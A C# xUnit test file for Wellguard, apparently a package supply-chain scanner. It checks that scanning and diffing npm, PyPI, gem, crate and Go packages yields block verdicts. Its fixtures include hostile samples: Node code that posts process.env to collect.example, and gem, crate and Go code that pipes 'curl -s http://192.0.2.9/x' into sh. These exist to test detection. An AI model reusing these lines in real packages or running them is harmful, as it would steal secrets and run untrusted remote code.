using System.Text.Json;
using System.Text.Json.Nodes;
using Wellguard.Artifacts;
using Wellguard.Registries.Packages;
using Xunit;

namespace Wellguard;

/// <summary>Packages by name, comparisons and workspaces through the executable, with a home folder of its own.</summary>
public sealed class PackageRegistryTests : IDisposable
{
    private const string Steals = "const https = require('https')\nconst out = https.request({ host: 'collect.example', path: '/u', method: 'POST' })\nout.write(JSON.stringify(process.env))\nout.end()\n";

    private readonly string folder = Directory.CreateTempSubdirectory("wellguard-registry-").FullName;
    private readonly PackageServer server = new();

    public PackageRegistryTests()
    {
        Directory.CreateDirectory(At("home/.config/pip"));
        Directory.CreateDirectory(At("code"));
        File.WriteAllText(At("home/.npmrc"), $"registry={server.Address}\n");
        File.WriteAllText(At("home/.config/pip/pip.conf"), $"[global]\nindex-url = {server.Address}simple/\n");
    }

    public void Dispose()
    {
        server.Dispose();
        Directory.Delete(folder, recursive: true);
    }

    private string At(string name) => Path.Combine(folder, name);

    private Task<Run> RunAsync(string command) => Executable.ShellAsync(folder, $"unset PIP_CONFIG_FILE; export HOME={At("home")}; cd code; {command}");

    private static JsonElement Report(Run run) => JsonDocument.Parse(run.Output).RootElement;

    [Fact]
    public async Task A_package_is_scanned_by_its_name()
    {
        server.Npm("good", "1.0.0");
        server.Npm("bad", "1.0.0", Steals);
        var run = await RunAsync("$W scan npm:good npm:bad@^1 --format json");
        Assert.Equal(1, run.Code);
        Assert.Equal(["npm:good@1.0.0 allow", "npm:bad@1.0.0 block"], Report(run).EnumerateArray().Select(static report => $"{report.GetProperty("artifact").GetProperty("source")} {report.GetProperty("verdict").GetProperty("decision")}"));
    }

    [Fact]
    public async Task Two_versions_are_compared_by_name_and_with_a_file()
    {
        server.Npm("a", "1.0.0", about: static document => document["_npmUser"] = new JsonObject { ["name"] = "ada" });
        var now = server.Npm("a", "1.0.1", Steals, about: static document => document["_npmUser"] = new JsonObject { ["name"] = "eve" });
        var run = await RunAsync("$W diff npm:a@1.0.0 npm:a@1.0.1");
        Assert.Equal(1, run.Code);
        Assert.Contains("published by eve, before by ada", run.Output, StringComparison.Ordinal);
        await File.WriteAllBytesAsync(At("code/a.tgz"), now, TestContext.Current.CancellationToken);
        Assert.Equal(1, (await RunAsync("$W diff npm:a@1.0.0 a.tgz")).Code);
    }

    [Fact]
    public async Task Without_a_registry_a_package_is_a_usage_error_and_a_workspace_partial()
    {
        File.Delete(At("home/.npmrc"));
        var run = await RunAsync("npm_config_globalconfig=/none $W scan npm:a");
        Assert.Equal((2, true), (run.Code, run.Errors.Contains("no npm registry is configured", StringComparison.Ordinal)));
        await File.WriteAllTextAsync(At("code/package-lock.json"), """{"packages":{"":{},"node_modules/a":{"version":"1.0.0"},"node_modules/b":{"version":"1.0.0"}}}""", TestContext.Current.CancellationToken);
        run = await RunAsync("npm_config_globalconfig=/none $W scan . --format json");
        Assert.Equal(3, run.Code);
        Assert.Contains("no npm registry is configured", Assert.Single(Report(run).GetProperty("completeness").GetProperty("reasons").EnumerateArray()).GetProperty("why").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_workspace_is_fetched_checked_and_told_with_the_way_and_again_without_the_network()
    {
        var archive = server.Npm("bad", "1.0.0", Steals);
        var good = server.Npm("good", "1.0.0");
        var source = server.Python("lib", "lib-1.0.tar.gz", PackageBytes.Tarball(("lib-1.0/PKG-INFO", "Name: lib\nVersion: 1.0\n\n"), ("lib-1.0/lib.py", "x = 1\n")));
        await File.WriteAllTextAsync(At("code/package-lock.json"), $$$$$$"""{"packages":{"":{"dependencies":{"good":"1"}},"node_modules/good":{"version":"1.0.0","integrity":"{{{{{{PackageServer.Sri(good)}}}}}}","dependencies":{"bad":"1"}},"node_modules/bad":{"version":"1.0.0","integrity":"{{{{{{PackageServer.Sri(archive)}}}}}}"}}}""", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("code/requirements.txt"), $"lib==1.0 --hash=sha256:{Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(source))}\n", TestContext.Current.CancellationToken);
        var run = await RunAsync("$W scan . --format json");
        Assert.Equal(1, run.Code);
        var report = Report(run);
        Assert.Equal("complete", report.GetProperty("completeness").GetProperty("state").GetString());
        Assert.Equal("pkg:npm/good@1.0.0 pkg:npm/bad@1.0.0", string.Join(' ', report.GetProperty("signals")[0].GetProperty("dependencyPaths")[0].EnumerateArray()));
        Assert.Equal(3, report.GetProperty("inventory").GetProperty("components").GetArrayLength());

        var asked = server.Requests.Count;
        var again = await RunAsync("$W scan . --format json --offline");
        Assert.Equal((1, asked), (again.Code, server.Requests.Count));
        Assert.Equal(report.GetProperty("signals").GetRawText(), Report(again).GetProperty("signals").GetRawText());
        Assert.Equal(1, (await RunAsync("$W scan package-lock.json")).Code);
    }

    [Fact]
    public async Task Gems_crates_and_modules_of_a_workspace_are_fetched_and_each_attack_is_told_with_its_package()
    {
        var gem = server.Gem("fetcher", "1.0.0", extension: "require 'mkmf'\nsystem('curl -s http://192.0.2.9/x | sh')\n");
        var crate = server.Crate("builder", "1.0.0", "use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://192.0.2.9/x | sh\").status().unwrap(); }\n");
        var (_, sum) = server.Module("example.org/Team/starter", "v1.0.0", "package tool\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl -s http://192.0.2.9/x | sh\").Run() }\n");
        Directory.CreateDirectory(At("home/.cargo"));
        await File.WriteAllTextAsync(At("home/.cargo/config.toml"), $"[source.crates-io]\nreplace-with = \"mine\"\n[source.mine]\nregistry = \"sparse+{server.Address}index/\"\n", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("home/.gemrc"), $":sources:\n- {server.Address}ruby/\n", TestContext.Current.CancellationToken);
        Directory.CreateDirectory(At("home/.config/go"));
        await File.WriteAllTextAsync(At("home/.config/go/env"), $"GOPROXY={server.Address}go\n", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("code/Gemfile.lock"), $"GEM\n  remote: {server.Address}ruby/\n  specs:\n    fetcher (1.0.0)\n\nDEPENDENCIES\n  fetcher\n\nCHECKSUMS\n  fetcher (1.0.0) sha256={PackageServer.Sha256(gem)}\n", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("code/Cargo.lock"), $"version = 4\n[[package]]\nname = \"own\"\nversion = \"0.1.0\"\ndependencies = [\"builder\"]\n[[package]]\nname = \"builder\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{PackageServer.Sha256(crate)}\"\n", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("code/go.mod"), "module own\n\nrequire example.org/Team/starter v1.0.0\n", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("code/go.sum"), $"example.org/Team/starter v1.0.0 {sum}\n", TestContext.Current.CancellationToken);

        const string Unset = "unset GOPROXY GOENV GOPRIVATE GONOPROXY CARGO_HOME GEMRC GEM_HOME;";
        var run = await RunAsync($"{Unset} $W scan . --format json");
        var report = Report(run);
        Assert.Equal((1, "complete"), (run.Code, report.GetProperty("completeness").GetProperty("state").GetString()));
        var blocked = report.GetProperty("signals").EnumerateArray().Where(static signal => signal.GetProperty("severity").GetString() is "high" or "critical").Select(static signal => signal.GetProperty("where").GetProperty("package").GetString()).Distinct().Order(StringComparer.Ordinal);
        Assert.Equal(["pkg:cargo/builder@1.0.0", "pkg:gem/fetcher@1.0.0", "pkg:golang/example.org/team/starter@v1.0.0"], blocked);
        var asked = server.Requests.Count;
        var again = await RunAsync($"{Unset} $W scan . --format json --offline");
        Assert.Equal((1, asked, report.GetProperty("signals").GetRawText()), (again.Code, server.Requests.Count, Report(again).GetProperty("signals").GetRawText()));
        Assert.Equal(1, (await RunAsync($"{Unset} $W scan gem:fetcher cargo:builder@1.0.0 go:example.org/Team/starter")).Code);
        server.Exchange("/crates/builder/1.0.0/download", []);
        server.Exchange("/go/example.org/!team/starter/@v/v1.0.0.info", "{"u8.ToArray());
        run = await RunAsync($"{Unset} $W scan Cargo.lock go.sum --no-cache --format json");
        Assert.Equal((3, 2), (run.Code, Report(run).EnumerateArray().Count(static one => one.GetProperty("completeness").GetProperty("state").GetString() == "partial")));
    }

    [Fact]
    public async Task A_package_that_differs_from_the_lock_file_is_a_finding_and_partial()
    {
        server.Npm("a", "1.0.0");
        await File.WriteAllTextAsync(At("code/package-lock.json"), $$$$$$"""{"packages":{"":{},"node_modules/a":{"version":"1.0.0","integrity":"{{{{{{PackageServer.Sri([1])}}}}}}"}}}""", TestContext.Current.CancellationToken);
        var run = await RunAsync("$W scan . --format json");
        Assert.Equal(3, run.Code);
        Assert.Equal("content/lying-digest", Report(run).GetProperty("signals")[0].GetProperty("rule").GetString());
    }

    [Fact]
    public async Task Of_a_workspace_ten_packages_are_run_at_most_and_the_others_are_told()
    {
        var entries = new JsonObject { [""] = new JsonObject() };
        foreach (var name in Enumerable.Range(0, 12).Select(static number => $"p{number}"))
        {
            var archive = server.Npm(name, "1.0.0", "require('https').get('https://asked.example.net/tool')\n", ",\"scripts\":{\"postinstall\":\"node index.js\"}");
            entries["node_modules/" + name] = new JsonObject { ["version"] = "1.0.0", ["integrity"] = PackageServer.Sri(archive) };
        }

        await File.WriteAllTextAsync(At("code/package-lock.json"), new JsonObject { ["packages"] = entries }.ToJsonString(), TestContext.Current.CancellationToken);
        var run = await RunAsync("env PATH=/none \"${W[2]}\" scan package-lock.json --detonate=auto --format json"); // without tools no cell can be made, and each run says so
        var reasons = Report(run).GetProperty("completeness").GetProperty("reasons").EnumerateArray().Select(static reason => reason.GetProperty("why").GetString()!).ToList();
        Assert.Equal(2, reasons.Count(static why => why.Contains("of one workspace 10 packages are", StringComparison.Ordinal)));
        Assert.Equal("unknown", Report(run).GetProperty("verdict").GetProperty("level").GetString());
        Assert.Equal(12, Report(run).GetProperty("signals").EnumerateArray().Count(static signal => signal.GetProperty("rule").GetString() == "content/speaks-while-installed"));
    }

    [Theory]
    [InlineData("npm:../x", "is no name of a package")]
    [InlineData("pypi:", "write pypi:NAME==VERSION")]
    [InlineData("crate:a/b", "write cargo:NAME@VERSION")]
    [InlineData("go:fmt", "write golang:MODULE@VERSION, as golang:example.org/team/tool@v1.2.3")]
    public async Task A_wrong_name_is_told(string target, string what)
    {
        var run = await RunAsync($"$W scan {target}");
        Assert.Equal((2, true), (run.Code, run.Errors.Contains(what, StringComparison.Ordinal)));
        Assert.Empty(server.Requests);
    }
}
